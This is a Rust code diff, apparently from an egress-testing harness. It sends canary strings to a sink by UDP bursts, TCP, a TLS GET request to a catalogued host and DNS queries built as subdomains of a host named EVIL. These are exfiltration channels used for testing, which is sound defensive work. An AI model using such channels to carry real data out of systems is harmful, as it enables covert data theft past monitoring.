@@ -7,8 +7,8 @@ use std::net::{Ipv4Addr, TcpStream, UdpSocket};
 use std::path::Path;
 use std::time::Duration;
 
-use super::{dns, send};
-use crate::catalogue::names::EVIL;
+use super::{dns, send, tls};
+use crate::catalogue::names::{BRIEF, EVIL};
 
 /// The ports of the sink.
 const UDP: u16 = 9999;
@@ -20,15 +20,37 @@ const IDLE: Duration = Duration::from_millis(10);
 /// How long a connection may take.
 const CONNECT: Duration = Duration::from_millis(100);
 
-/// Sends what the file says, `udp CANARY`, `tcp CANARY` or `dns CANARY`, for as long as it lives.
+/// How many datagrams of the fast sender leave between two looks into the file.
+const BURST: usize = 64;
+
+/// Sends what the file says, `udp CANARY`, `fast CANARY`, `tcp CANARY`, `grant CANARY` or `dns CANARY`, for as long as it
+/// lives.
 pub fn run(file: &Path, sink: Ipv4Addr) -> ! {
     let udp = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).ok();
     let mut tcp: Option<TcpStream> = None;
+    let mut session: Option<tls::Session> = None;
     loop {
         let text = fs::read_to_string(file).unwrap_or_default();
         match text.trim().split_once(' ') {
             Some(("udp", canary)) => {
                 let _ = udp.as_ref().map(|socket| socket.send_to(canary.as_bytes(), (sink, UDP)));
+            }
+            Some(("fast", canary)) => {
+                for _ in 0..BURST {
+                    let _ = udp.as_ref().map(|socket| socket.send_to(canary.as_bytes(), (sink, UDP)));
+                }
+                continue;
+            }
+            Some(("grant", canary)) => {
+                let open = || tls::open(send::resolve(BRIEF, 443)?, Some(BRIEF));
+                session = session.or_else(|| open().ok());
+                let request = format!("GET /{canary} HTTP/1.1\r\nHost: {BRIEF}\r\n\r\n");
+                // Without an answer it goes on: what was written may still be on its way.
+                let written = session.as_mut().map(|stream| stream.write_all(request.as_bytes()));
+                let _ = session.as_mut().map(send::hear);
+                if !matches!(written, Some(Ok(()))) {
+                    session = None;
+                }
             }
             Some(("dns", canary)) => {
                 let question = dns::query(&format!("{canary}.{EVIL}"), 1);
